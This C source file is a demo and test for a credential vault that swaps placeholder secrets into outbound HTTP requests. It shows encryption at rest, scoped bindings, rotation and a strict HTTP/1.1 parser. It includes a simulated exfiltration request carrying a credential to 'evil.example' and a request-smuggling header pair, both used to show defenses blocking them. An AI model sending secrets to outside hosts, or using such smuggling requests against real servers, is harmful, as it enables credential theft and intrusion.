/*
 * The foundation demo: what exists after the first issue, end to end in one
 * process over real files — master key, encrypted vault in state.db, the
 * scope walk, the placeholder swap on a request parsed by the strict
 * HTTP/1.1 codec, the exfiltration guard, rotation, a smuggling attempt,
 * and a scan of the database for plaintext.  It exits non-zero if any step
 * does not behave as shown, so it also runs as a test.
 *
 * Real values are never printed: a swap is shown as a BLAKE2b fingerprint
 * of the upstream value, so rotation is visible without the secret.
 *
 * Usage: miosa-foundation-demo STATE_DIR   (a fresh or empty directory)
 */
#include <errno.h>
#include <fcntl.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "http1.h"
#include "swap.h"
#include "vault.h"

#define DEMO_TENANT "acme"
#define DEMO_SANDBOX "sbx-demo"

/* Demo credentials: stand-ins for real keys, never printed. */
static const char OPENAI_V1[] = "sk-proj-demo-FIRST-value-1111";
static const char OPENAI_V2[] = "sk-proj-demo-ROTATED-value-2222";
static const char OPENAI_TENANT[] = "sk-proj-demo-TENANT-default-3333";
static const char GITHUB_VALUE[] = "gho_demo-workspace-token-4444";

static int failures;

static void check(int ok, const char *what)
{
	if (!ok) {
		fprintf(stderr, "demo: FAILED: %s\n", what);
		failures++;
	}
}

static void fingerprint(const uint8_t *v, size_t n, char out[13])
{
	unsigned char h[6];

	crypto_generichash(h, sizeof(h), v, n, NULL, 0);
	sodium_bin2hex(out, 13, h, sizeof(h));
}

static int set_secret(struct vault *v, enum scope_walk_scope scope, const char *scope_id,
		      const char *name, const char *env, const char *host, const char *value)
{
	const char *hosts[] = { host };
	struct vault_secret_spec spec = {
		.ref = { .tenant_id = DEMO_TENANT, .scope = scope, .scope_id = scope_id,
			 .name = name },
		.expose_as_env = env,
		.hosts = hosts,
		.n_hosts = 1,
		.value = (const uint8_t *)value,
		.value_len = strlen(value),
		.tenant_allows_end_user_credentials = true,
	};
	int r = vault_secret_set(v, &spec, NULL);

	if (r < 0)
		fprintf(stderr, "demo: set %s: %s\n", name, vault_errmsg(v));
	else
		printf("    %-18s %-10s %-14s -> %-15s hosts: %s\n",
		       scope_walk_scope_name(scope), scope_id, name, env, host);
	return r;
}

/* Parse a request head, swap it for dest_host, print what goes upstream. */
static int demo_request(struct vault *v, const struct scope_walk_attribution *a,
			const char *req, const char *dest_host, struct swap_result *ret)
{
	struct http1_parser p;
	size_t head_len;
	int r;

	if ((r = http1_parser_init_request(&p, NULL)) < 0)
		return r;
	r = http1_parse(&p, (const uint8_t *)req, strlen(req), &head_len);
	if (r != HTTP1_DONE)
		return r < 0 ? r : -EINVAL;
	return swap_request_head(v, a, &p.head, (const uint8_t *)req, dest_host, true, ret);
}

static void print_swap(const struct swap_result *r, const char *value_a, const char *value_b)
{
	const char *values[] = { value_a, value_b };
	char fp[13];

	printf("    swapped=%zu flagged=%zu secrets=", r->n_swapped, r->flagged.n);
	for (size_t i = 0; i < r->swapped.n; i++)
		printf("%s%s", i ? "," : "", r->swapped.name[i]);
	printf("%s", r->swapped.n ? "" : "none");
	for (size_t i = 0; i < r->flagged.n; i++)
		printf("%sflagged:%s", i ? "," : " ", r->flagged.name[i]);
	printf("\n");
	for (size_t i = 0; i < 2; i++) {
		if (!values[i] || !memmem(r->head, r->head_len, values[i], strlen(values[i])))
			continue;
		fingerprint((const uint8_t *)values[i], strlen(values[i]), fp);
		printf("    upstream carries the real value (blake2b %s, %zu bytes; not shown)\n",
		       fp, strlen(values[i]));
	}
}

/* True if any of the demo values appears in the file's bytes. */
static int file_holds_value(const char *path)
{
	const char *values[] = { OPENAI_V1, OPENAI_V2, OPENAI_TENANT, GITHUB_VALUE };
	FILE *f = fopen(path, "rb");
	uint8_t *buf;
	long n;
	int hit = 0;

	if (!f)
		return errno == ENOENT ? 0 : -1;
	if (fseek(f, 0, SEEK_END) != 0 || (n = ftell(f)) < 0 || fseek(f, 0, SEEK_SET) != 0 ||
	    !(buf = malloc((size_t)n + 1))) {
		fclose(f);
		return -1;
	}
	if (fread(buf, 1, (size_t)n, f) == (size_t)n)
		for (size_t i = 0; i < 4; i++)
			hit |= memmem(buf, (size_t)n, values[i], strlen(values[i])) != NULL;
	free(buf);
	fclose(f);
	return hit;
}

static void step_scope_walk(struct vault *v, const struct scope_walk_attribution *a,
			    char *ret_openai_ph)
{
	struct vault_secret_list list = { 0 };

	printf("\n[3] the guest's environment for %s (scope walk, first match wins):\n",
	       DEMO_SANDBOX);
	check(vault_resolve(v, a, &list) == 0, "resolve the sandbox's bindings");
	for (size_t i = 0; i < list.n; i++) {
		printf("    %s=%s   (scope %s, secret %s v%u)\n", list.items[i].expose_as_env,
		       list.items[i].placeholder, scope_walk_scope_name(list.items[i].scope),
		       list.items[i].name, list.items[i].version);
		if (strcmp(list.items[i].expose_as_env, "OPENAI_API_KEY") == 0) {
			memcpy(ret_openai_ph, list.items[i].placeholder, VAULT_PLACEHOLDER_LEN + 1);
			check(list.items[i].scope == SCOPE_WALK_SANDBOX,
			      "sandbox scope beats tenant scope");
		}
	}
	check(list.n == 2, "two env bindings");
	vault_secret_list_free(&list);
}

static void step_swap(struct vault *v, const struct scope_walk_attribution *a, const char *ph)
{
	struct swap_result r = { 0 };
	char req[512];

	snprintf(req, sizeof(req),
		 "POST /v1/chat/completions HTTP/1.1\r\nHost: api.openai.com\r\n"
		 "Authorization: Bearer %s\r\nContent-Length: 2\r\n\r\n", ph);
	printf("\n[4] the guest sends (user code unchanged):\n"
	       "    POST /v1/chat/completions  Authorization: Bearer %s\n", ph);
	printf("    -> api.openai.com:\n");
	check(demo_request(v, a, req, "api.openai.com", &r) == 0, "swap for api.openai.com");
	print_swap(&r, OPENAI_V1, NULL);
	check(r.n_swapped == 1 && memmem(r.head, r.head_len, OPENAI_V1, strlen(OPENAI_V1)),
	      "real value reaches the allowed host");
	swap_result_release(&r);

	printf("\n[5] exfiltration guard: the same placeholder sent to evil.example:\n");
	snprintf(req, sizeof(req), "GET /steal?k=%s HTTP/1.1\r\nHost: evil.example\r\n\r\n", ph);
	check(demo_request(v, a, req, "evil.example", &r) == 0, "swap for evil.example");
	print_swap(&r, OPENAI_V1, NULL);
	printf("    upstream sees only the placeholder: %s\n",
	       memmem(r.head, r.head_len, ph, strlen(ph)) ? "yes" : "NO");
	check(r.n_swapped == 0 && r.flagged.n == 1, "placeholder kept and flagged");
	swap_result_release(&r);
}

static void step_rotate(struct vault *v, const struct scope_walk_attribution *a, const char *ph)
{
	struct vault_secret_ref ref = { .tenant_id = DEMO_TENANT, .scope = SCOPE_WALK_SANDBOX,
					.scope_id = DEMO_SANDBOX, .name = "openai_key" };
	struct swap_result r = { 0 };
	uint32_t version = 0;
	char req[512];

	printf("\n[6] rotate openai_key mid-run (guest untouched):\n");
	check(vault_secret_rotate(v, &ref, (const uint8_t *)OPENAI_V2, strlen(OPENAI_V2),
				  &version) == 0, "rotate");
	printf("    openai_key is now version %u; placeholder unchanged: %s\n", version, ph);
	snprintf(req, sizeof(req),
		 "GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer %s\r\n\r\n",
		 ph);
	check(demo_request(v, a, req, "api.openai.com", &r) == 0, "swap after rotation");
	print_swap(&r, OPENAI_V1, OPENAI_V2);
	check(memmem(r.head, r.head_len, OPENAI_V2, strlen(OPENAI_V2)) != NULL,
	      "next request carries the rotated value");
	swap_result_release(&r);
}

static void step_smuggling(void)
{
	static const char req[] = "POST / HTTP/1.1\r\nHost: api.openai.com\r\n"
				  "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n";
	struct http1_parser p;
	size_t head_len;
	int r;

	printf("\n[7] a request-smuggling attempt (Content-Length + Transfer-Encoding):\n");
	check(http1_parser_init_request(&p, NULL) == 0, "parser init");
	r = http1_parse(&p, (const uint8_t *)req, sizeof(req) - 1, &head_len);
	printf("    rejected: %d %s\n", http1_error_status(r), http1_strerror(r));
	check(r < 0 && http1_error_status(r) == 400, "CL+TE refused with 400");
}

static void step_at_rest(const char *dir)
{
	const char *files[] = { "state.db", "state.db-wal", "state.db-shm" };
	char path[4096];
	int any = 0;

	printf("\n[8] encrypted at rest: scanning the database files for the real values:\n");
	for (size_t i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, files[i]);
		int hit = file_holds_value(path);
		printf("    %-13s %s\n", files[i], hit > 0 ? "VALUE FOUND" :
		       hit < 0 ? "unreadable" : "no plaintext value");
		any |= hit != 0;
	}
	check(!any, "no plaintext value in state.db, -wal, -shm");
}

int main(int argc, char **argv)
{
	struct scope_walk_attribution a = {
		.sandbox_id = DEMO_SANDBOX, .tenant_id = DEMO_TENANT,
		.external_user_id = "alice@example.com", .external_workspace_id = "team-a",
	};
	char key_path[4096], err[256], ph[VAULT_PLACEHOLDER_LEN + 1] = "";
	struct master_key *key = NULL;
	struct vault *v = NULL;
	int r;

	if (argc != 2 || sodium_init() < 0) {
		fprintf(stderr, "usage: %s STATE_DIR\n", argv[0]);
		return 2;
	}
	printf("== miosa foundation demo: vault, scope walk, swap, strict HTTP/1.1 ==\n");
	if (mkdir(argv[1], 0700) != 0 && errno != EEXIST) {
		fprintf(stderr, "demo: mkdir %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	snprintf(key_path, sizeof(key_path), "%s/master.key", argv[1]);
	r = master_key_load_or_create(key_path, &key, err, sizeof(err));
	if (r < 0) {
		fprintf(stderr, "demo: %s\n", err);
		return 1;
	}
	printf("\n[1] master key %s %s (32 bytes, mode 0600)\n", key_path,
	       r == 1 ? "created" : "loaded");
	if (vault_open(argv[1], key, &v, err, sizeof(err)) < 0) {
		fprintf(stderr, "demo: %s\n", err);
		master_key_free(key);
		return 1;
	}
	printf("\n[2] secrets set (the value is never shown again):\n");
	check(set_secret(v, SCOPE_WALK_TENANT, DEMO_TENANT, "openai_key", "OPENAI_API_KEY",
			 "api.openai.com", OPENAI_TENANT) == 0, "set tenant secret");
	check(set_secret(v, SCOPE_WALK_SANDBOX, DEMO_SANDBOX, "openai_key", "OPENAI_API_KEY",
			 "api.openai.com", OPENAI_V1) == 0, "set sandbox secret");
	check(set_secret(v, SCOPE_WALK_EXTERNAL_WORKSPACE, "team-a", "github_token",
			 "GITHUB_TOKEN", "api.github.com", GITHUB_VALUE) == 0,
	      "set external_workspace secret");
	step_scope_walk(v, &a, ph);
	if (ph[0]) {
		step_swap(v, &a, ph);
		step_rotate(v, &a, ph);
	}
	step_smuggling();
	vault_close(v);
	master_key_free(key);
	step_at_rest(argv[1]);
	printf("\n%s\n", failures ? "demo: FAILED" : "demo: every step behaved as shown");
	return failures ? 1 : 0;
}
